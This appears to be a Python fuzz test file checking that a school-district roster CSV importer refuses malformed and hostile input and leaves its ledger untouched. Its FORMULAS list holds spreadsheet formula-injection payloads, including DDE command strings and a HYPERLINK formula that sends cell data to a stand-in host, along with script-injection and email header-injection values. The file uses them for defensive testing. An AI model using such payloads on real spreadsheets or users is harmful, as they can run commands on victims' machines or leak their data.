"""Roster files fuzzed: wrong columns, bad LEA codes, duplicates, empty and huge fields, invalid UTF-8, NUL bytes,
formula-injection cells. Each file is read whole and either imported or refused with one clear line; a refused
file leaves the ledger exactly as it was; nothing a spreadsheet would run as a formula is ever stored.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apscn_tracker.domain.roster import MAX_FIELD, Roster, RosterError, RosterProblems, parse_roster
from tests.support.snapshot import snapshot

FUZZ = settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
FUZZ_CLI = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large],
)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-=1",
]
HEADERS = ["lea_code", "name", "county", "contact_name", "contact_email", "contact_role", "source"]

good_lea = st.builds(
    lambda county, district, school: f"{county:02d}{district:02d}{school}",
    st.integers(1, 75),
    st.integers(0, 99),
    st.sampled_from(["000", "700"]),
)
bad_lea = st.one_of(
    st.sampled_from(["", "12345", "9901000", "0001000", "7601000", "60010000", "6001-00", "AR-", "６００１０００"]),
    st.text(max_size=12),
    st.integers(-(10**9), 10**9).map(str),
)
odd_lea = st.sampled_from(["AR-6001000", "ar-0401000", "101000", " 6001000 ", "6001012"])  # accepted, some warned
hostile = st.one_of(
    st.sampled_from(FORMULAS),
    st.just(""),
    st.just("   "),
    st.text(min_size=MAX_FIELD - 2, max_size=MAX_FIELD + 40),  # around the length limit
    st.text(alphabet=st.characters(max_codepoint=31), min_size=1, max_size=5).map(lambda c: f"A{c}B"),
    st.sampled_from(["Núñez Academy", 'O\'Brien, "Pat"', "Line\nBreak", "<script>alert(1)</script>", "\u202eevil"]),
)
email = st.one_of(
    st.from_regex(r"[a-z]{1,8}@[a-z]{1,8}\.k12\.ar\.us", fullmatch=True),
    st.sampled_from(["", "not-an-email", "a@b", "x@y.z", "=cmd@x.org", "pat@x.org\r\nBcc: all@x.org", "A@B.ORG"]),
)
cell = st.one_of(st.text(max_size=30), hostile, good_lea, bad_lea, email)


@st.composite
def roster_rows(draw) -> list[list[str]]:
    """Rows of the project's format, mostly valid, each made hostile with some probability."""
    rows = []
    for _ in range(draw(st.integers(0, 12))):
        row = [
            draw(st.one_of(good_lea, good_lea, odd_lea, bad_lea)),
            draw(st.one_of(st.from_regex(r"[A-Z][a-z]{2,12}( [A-Z][a-z]{2,10})?", fullmatch=True), hostile)),
            draw(st.one_of(st.sampled_from(["Pulaski", "Benton", ""]), hostile)),
            draw(st.one_of(st.just(""), st.sampled_from(["Pat Lee", "Ann"]), hostile)),
            draw(email),
            draw(st.one_of(st.just(""), st.just("IT"), hostile)),
            draw(st.one_of(st.just(""), st.just("https://example.org/src"), hostile)),
        ]
        rows.append(row)
        if rows and draw(st.booleans()) and draw(st.booleans()):
            rows.append(list(draw(st.sampled_from(rows))))  # a duplicate row
    return rows


@st.composite
def roster_files(draw) -> bytes:
    kind = draw(st.sampled_from(["project", "project", "project", "shuffled", "nces", "garbage", "bytes"]))
    if kind == "bytes":
        return draw(st.binary(max_size=400))
    if kind == "garbage":
        header = draw(st.lists(st.one_of(st.sampled_from(HEADERS), st.text(max_size=10)), max_size=6))
        body = draw(st.lists(st.lists(cell, max_size=8), max_size=6))
        text = _csv([header, *body])
    elif kind == "nces":
        header = ["ST_LEAID", "LEA_NAME", "LEAID", "CONAME"]
        body = [
            [
                draw(st.one_of(good_lea.map(lambda c: f"AR-{c}"), st.just("TX-101912"), bad_lea)),
                draw(st.one_of(st.from_regex(r"[A-Z][a-z]{3,10} School District", fullmatch=True), hostile)),
                draw(st.text(alphabet="0123456789", max_size=7)),
                draw(st.one_of(st.just("Benton County"), hostile)),
            ]
            for _ in range(draw(st.integers(0, 8)))
        ]
        text = _csv([header, *body])
    else:
        header = list(HEADERS)
        rows = draw(roster_rows())
        if kind == "shuffled":  # columns in any order and case, some missing, some extra
            order = draw(st.permutations(range(len(header))))
            keep = draw(st.integers(1, len(header)))
            order = order[:keep]
            header = [draw(st.sampled_from([h, h.upper(), f" {h} "])) for h in (header[i] for i in order)]
            rows = [[r[i] for i in order] for r in rows]
            if draw(st.booleans()):
                header.append("extra")
                rows = [[*r, draw(cell)] for r in rows]
        if rows and draw(st.booleans()) and draw(st.booleans()):
            rows[0] = rows[0] + ["one too many"]  # a ragged row
        text = _csv([header, *rows])
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"]))
    data = text.encode(encoding, errors="replace")
    if draw(st.integers(0, 9)) == 0:  # damage: a stray invalid byte or a NUL
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.sampled_from([b"\xff", b"\x81", b"\x00", b"\xc3("])) + data[at:]
    return data


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


FORMULA_START = ("=", "+", "@", "\t", "\r")
CONTROL = re.compile(r"[\x00-\x1f\x7f]")


def assert_clean(roster: Roster) -> None:
    """What a parsed roster may hold: 7-digit county-valid codes, one-line bounded text, no formula, real emails."""
    assert roster.districts
    seen = set()
    for d in roster.districts:
        assert re.fullmatch(r"\d{7}", d.lea) and 1 <= int(d.lea[:2]) <= 75
        assert d.lea not in seen
        seen.add(d.lea)
        for value in (d.name, d.county, *(c.name for c in d.contacts), *(c.role for c in d.contacts)):
            if value is None:
                continue
            assert value == value.strip() and value and len(value) <= MAX_FIELD
            assert not CONTROL.search(value) and not value.startswith(FORMULA_START), value
            assert not value.startswith("-"), value
        emails = [c.email for c in d.contacts]
        assert len(emails) == len(set(emails))
        for e in emails:
            assert e == e.lower() and "@" in e and not CONTROL.search(e) and not e.startswith(FORMULA_START)


@FUZZ
@given(roster_files())
def test_any_file_is_parsed_into_a_clean_roster_or_refused_with_one_line(data: bytes):
    try:
        roster = parse_roster(data)
    except RosterProblems as exc:  # every problem of the rows: a table, one line each
        assert exc.problems and all(line.strip() and len(line) < 600 for line in str(exc).splitlines())
        return
    except RosterError as exc:
        message = str(exc)
        assert message and "\n" not in message and len(message) < 600
        return
    assert_clean(roster)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(good_lea, st.from_regex(r"[A-Z][a-z]{2,12}", fullmatch=True)), min_size=1, max_size=20))
def test_a_valid_roster_reads_back_exactly(rows):
    unique = list({lea: name for lea, name in rows}.items())
    data = _csv([["lea_code", "name"], *map(list, unique)]).encode()
    roster = parse_roster(data)
    assert [(d.lea, d.name) for d in roster.districts] == unique


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["name", "county", "contact_name", "contact_role", "source"])
def test_every_formula_cell_is_refused_in_every_text_column(formula, column):
    row = {"lea_code": "6001000", "name": "Little Rock", "contact_email": "a@lrsd.k12.ar.us", column: formula}
    data = _csv([list(row), list(row.values())]).encode()
    with pytest.raises(RosterError, match="formula|control character"):
        parse_roster(data)


# -- through the CLI: refused files change nothing -------------------------------------------------------------


@pytest.fixture
def initialised(cli):
    assert cli("init", today="2026-11-02").exit_code == 0
    return cli


@FUZZ_CLI
@given(data=roster_files())
def test_district_import_of_any_file_imports_it_or_refuses_it_and_changes_nothing(
    initialised, tmp_path_factory, data: bytes
):
    from apscn_tracker.config import load_settings

    cli = initialised
    url = load_settings().url
    path: Path = tmp_path_factory.mktemp("roster") / "roster.csv"
    path.write_bytes(data)
    before = snapshot(url)
    dry = cli("district", "import", str(path), "--dry-run", "--json")
    assert dry.exception is None or isinstance(dry.exception, SystemExit), dry.exception
    assert snapshot(url) == before  # a dry run never writes
    result = cli("district", "import", str(path), "--json")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 1)
    assert dry.exit_code == result.exit_code
    if result.exit_code == 1:
        assert result.stderr.startswith("error: "), result.stderr
        assert "nothing was imported" in result.stderr.splitlines()[0]
        assert result.stdout == ""
        assert snapshot(url) == before
    else:
        summary = json.loads(result.stdout)
        assert summary["added"] + summary["updated"] + summary["unchanged"] == summary["districts"]
        after = snapshot(url)
        assert len(after["district"]) == len(before["district"]) + summary["added"]
        names = [row[2] for row in after["district"]]
        assert not any(str(n).startswith(FORMULA_START) for n in names)


def test_a_huge_file_is_refused_quickly_and_whole(initialised, tmp_path):
    from apscn_tracker.config import load_settings

    url = load_settings().url
    rows = "".join(f"{c:02d}01000,District {c}\n" for c in range(1, 76)) * 3000  # 225,000 rows
    path = tmp_path / "huge.csv"
    path.write_text("lea_code,name\n" + rows)
    before = snapshot(url)
    result = initialised("district", "import", str(path))
    assert result.exit_code == 1 and "rows" in result.stderr or "appears again" in result.stderr
    assert snapshot(url) == before


def test_a_field_of_a_million_characters_is_refused(initialised, tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text("lea_code,name\n6001000," + "x" * 1_000_000 + "\n")
    result = initialised("district", "import", str(path))
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert "longer than" in result.stderr or "field larger than" in result.stderr
